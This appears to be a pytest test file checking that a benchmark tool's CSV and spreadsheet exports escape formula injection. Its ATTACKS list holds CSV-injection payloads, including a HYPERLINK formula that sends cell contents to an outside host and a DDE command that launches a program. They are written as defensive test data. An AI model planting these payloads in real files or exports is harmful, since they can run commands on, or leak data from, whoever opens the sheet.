"""No cell of an exported table is a formula, and no text is lost."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils.timezone import now
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from benchmarks.exports.services import exports
from benchmarks.sets.models import JudgmentSet
from benchmarks.sets.services import importing
from concord.formats import read_judgments
from concord.tables.cells import escape_formula, unescape_formula
from tests.benchmarks.factories import candidate_lines, write_lines

ATTACKS = (
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_escaped(text):
    assert escape_formula(text) == "'" + text and unescape_formula(escape_formula(text)) == text


@given(st.one_of(st.text(), st.text("'=+-@\t\r\na", max_size=6)))
def test_written_cells_are_read_back_and_never_begin_a_formula(text):
    written = escape_formula(text)
    assert unescape_formula(written) == text
    assert not written.startswith(ATTACKS[0][0]) and written[:1] not in tuple("+-@\t\r\n")


@pytest.mark.parametrize("value", [None, -1.5, 3, True, "plain", "a=b", "'quoted'", ""])
def test_numbers_and_other_texts_stay_as_they_are(value):
    assert escape_formula(value) is value


PRINTED = tuple(attack for attack in ATTACKS if attack.isprintable())


@pytest.fixture
def attacked(db, tmp_path) -> JudgmentSet:
    """A set whose ids and systems are formulas."""
    lines = candidate_lines()
    for line, attack in zip(lines, PRINTED, strict=False):
        line |= {"id": attack, "system": attack, "candidate": attack}
    path = write_lines(tmp_path / "attacked.jsonl", lines)
    return importing.import_judgments("attacked", read_judgments([path], "concord"), at=now())


def test_exported_tables_hold_no_formula(attacked):
    for lines in (exports.scores_csv(attacked, []), exports.ratings_csv(attacked)):
        rows = list(csv.reader(io.StringIO("".join(lines))))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in set("=+@\t\r\n\uff1d") or c.startswith("-2+")]
        assert {unescape_formula(row[0]) for row in rows} >= set(PRINTED)


def test_exported_spreadsheets_hold_text_and_no_formula(attacked):
    content = b"".join(exports.workbook(attacked, []))
    for sheet in load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
